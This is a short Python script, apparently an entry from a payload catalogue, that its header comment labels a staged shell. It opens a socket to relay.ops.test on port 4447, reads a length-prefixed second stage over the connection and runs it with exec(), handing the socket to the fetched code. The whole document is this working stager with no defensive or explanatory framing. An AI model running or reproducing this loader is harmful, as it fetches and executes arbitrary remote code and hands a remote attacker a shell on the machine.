# class: shell; possible: low medium; style: staged, the second part comes over the connection
import socket
import struct

s = socket.create_connection(("relay.ops.test", 4447))
size, = struct.unpack(">I", s.recv(4, socket.MSG_WAITALL))
source = s.recv(size, socket.MSG_WAITALL)
exec(source, {"s": s})
